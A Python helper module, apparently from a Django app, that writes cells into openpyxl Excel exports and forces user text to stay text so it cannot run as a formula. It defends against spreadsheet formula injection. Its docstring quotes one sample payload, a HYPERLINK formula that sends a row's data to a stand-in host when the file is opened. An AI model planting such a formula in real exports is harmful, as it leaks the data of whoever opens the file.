"""Writing values into Excel exports: user text is always stored as text, never as a formula.

openpyxl stores any ``str`` starting with ``=`` as a live formula, so an enterprise named
``=HYPERLINK("http://x/?"&A2,"点击")`` would become a working link that leaks the row when the file
is opened. Every exporter writes its cells through this module: text cells get ``data_type = "s"``
(Excel then shows ``=…``, ``+1``, ``-1+2``, ``@SUM(A1)`` literally), characters that XML cannot hold
are dropped, ``Decimal`` becomes a number and lazy translations become their text.

Works for normal and write-only worksheets: ``sheet.append(row(sheet, values))`` or
``put(sheet, r, c, value)``.
"""

from __future__ import annotations

from collections.abc import Iterable
from decimal import Decimal
from typing import Any

from django.utils.functional import Promise
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

TEXT = "s"


def clean(value: Any) -> Any:
    """The value as it goes into a cell: text as str (control characters removed), Decimal as float."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    if isinstance(value, Decimal):
        return float(value)
    return value


def _as_text(cell: Cell) -> Cell:
    if isinstance(cell.value, str):
        cell.data_type = TEXT  # never "f" (formula), whatever the text starts with
    return cell


def cell(sheet, value: Any) -> Cell:
    """A detached cell for ``sheet.append`` (normal or write-only sheet); text stays text."""
    return _as_text(Cell(sheet, row=1, column=1, value=clean(value)))  # as openpyxl's WriteOnlyCell


def row(sheet, values: Iterable[Any]) -> list[Cell]:
    """One row of cells for ``sheet.append``."""
    return [value if isinstance(value, Cell) else cell(sheet, value) for value in values]


def put(sheet, row_index: int, column: int, value: Any) -> Cell:
    """Set one cell of a normal worksheet (what ``sheet.cell(r, c, value)`` does, but safe)."""
    target = sheet.cell(row=row_index, column=column)
    target.value = clean(value)
    return _as_text(target)
